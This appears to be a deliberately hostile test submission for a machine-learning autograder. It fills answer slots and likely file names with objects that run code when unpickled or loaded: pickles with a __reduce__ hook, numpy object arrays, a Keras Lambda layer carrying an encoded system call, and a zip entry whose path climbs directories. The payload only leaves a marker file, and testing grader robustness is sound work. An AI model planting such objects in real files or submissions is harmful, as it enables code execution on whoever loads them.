# title: returns and leaves objects that run code when they are unpickled or loaded
# earns: 0
# keeps: 0

# Tries: objects with a `__reduce__` are returned, and pickles, a Keras model with a Lambda layer, a
# joblib file and object arrays lie about under names that a grader might load. Each would write a
# file `dlgrade-was-here` where it is loaded. An honest grader loads none of them.

# %% + after:setup
import io
import json
import os
import pickle
import zipfile


class Payload:
    """Leaves a mark in the current folder of whoever unpickles it."""

    def __reduce__(self):
        return (io.open, ("dlgrade-was-here", "w"))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()

    def __array__(self, dtype=None, copy=None):
        box = np.empty(1, dtype=object)
        box[0] = self
        return box


payload = Payload()
os.makedirs("answers", exist_ok=True)
data = pickle.dumps(payload)
for name in ("model.pkl", "results.pkl", "weights.h5", "model.pt", "answers.joblib", ".OTTER_LOG", "answers/0000.npy"):
    with open(name, "wb") as file:
        file.write(data)
box = np.empty(1, dtype=object)
box[0] = payload
np.save("w.npy", box, allow_pickle=True)
np.savez("inputs.npz", w=box, sgd_w=box)
layer = {
    "class_name": "Lambda", "module": "keras.layers",
    "config": {"function": {"class_name": "__lambda__", "config": {"code": "gANjcG9zaXgKc3lzdGVtCg=="}}},
}
with zipfile.ZipFile("model.keras", "w") as archive:
    archive.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}}))
    archive.writestr("../../dlgrade-was-here", "a name that climbs")

# %% mse_loss
def mse_loss(X, y, w):
    return payload

# %% closed_form
def closed_form(X, y):
    return [payload] * X.shape[1]

# %% gradient_descent
def gradient_descent(X, y, eta, n_iter):
    return payload, box

# %% expand
def expand(X):
    return box

# %% compute_loss
def compute_loss(X, y, w):
    return pickle.dumps(payload).decode("latin1")

# %% sgd
sgd_loss = sgd_w = payload

# %% momentum
momentum_loss = momentum_w = box
